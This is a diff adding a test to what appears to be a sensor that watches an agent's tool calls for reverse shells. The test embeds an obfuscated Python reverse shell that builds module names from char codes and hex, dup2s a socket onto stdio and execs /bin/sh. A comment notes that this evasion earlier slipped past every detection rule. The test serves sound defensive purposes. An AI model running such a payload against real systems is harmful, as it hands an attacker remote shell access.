@@ -46,6 +46,28 @@ async function assertShellConnect(command: string, what: string): Promise<Awaite
 const execs = (s: Awaited<ReturnType<typeof oneCall>>['s']) => s.events.filter((e) => e.kind === 'exec');
 const showExecs = (s: Awaited<ReturnType<typeof oneCall>>['s']): string => JSON.stringify(execs(s).map((e) => [e.payload.filename, e.payload.copy_of]));
 
+test('a shell started on a socket — connect, dup2 over fds 0–2, exec sh, no -i, no connect of its own — is a reverse shell of the call that ran it', async () => {
+  // (session 36 review: python hiding its names connected, put the socket on the shell's stdio and exec'd sh
+  // from a file written earlier; no rule saw it. The sensor now reads fds 0–2 of every new image.)
+  const py = [
+    'import os',
+    'so = __import__("".join(map(chr, [115, 111, 99, 107, 101, 116])))',
+    'c = getattr(so, "create_" + "conn" + "ection")(("registry.test", 80), timeout=5)',
+    'for fd in (0, 1, 2): getattr(os, chr(100) + "up2")(c.fileno(), fd)',
+    'os.execv(bytes.fromhex("2f62696e2f7368").decode(), ["x", "-c", "echo connected >&2; id; exec cat"])',
+  ];
+  const { r, alerts, s } = await oneCall(`printf '%s\\n' ${py.map((l) => `'${l}'`).join(' ')} > tools.py\ntimeout 5 python3 tools.py; echo done`);
+  assert.match(r.stdout, /done/, r.stderr);
+  const shell = s.events.find((e) => e.kind === 'exec' && e.payload.filename === '/bin/sh');
+  assert.deepEqual(shell?.payload.stdio_socket, [0, 1, 2], JSON.stringify(s.events.filter((e) => e.kind === 'exec').map((e) => [e.payload.filename, e.payload.stdio_socket])));
+  const hit = alerts.filter((a) => rulesOf(a).includes('shell_on_socket'));
+  assert.equal(hit.length, 1, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.message])));
+  assert.deepEqual([hit[0]!.tool_call, hit[0]!.payload.category, hit[0]!.pid], ['call-1', 'reverse_shell', shell!.pid]);
+  // the call's own shell and python had pipes, not sockets (what the shell ran, id and cat, inherited the socket)
+  const before = s.events.filter((e) => e.kind === 'exec' && /(^|\/)(bash|python3|timeout)$/.test(String(e.payload.filename)));
+  assert.ok(before.length >= 3 && before.every((e) => e.payload.stdio_socket === undefined), JSON.stringify(before.map((e) => [e.payload.filename, e.payload.stdio_socket])));
+});
+
 test('a shell that rewrote its comm is still a shell: the connect is judged by the program it exec\'d', async () => {
   await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' | cat - job.sh > j2.sh && bash j2.sh', 'comm rewritten');
 });
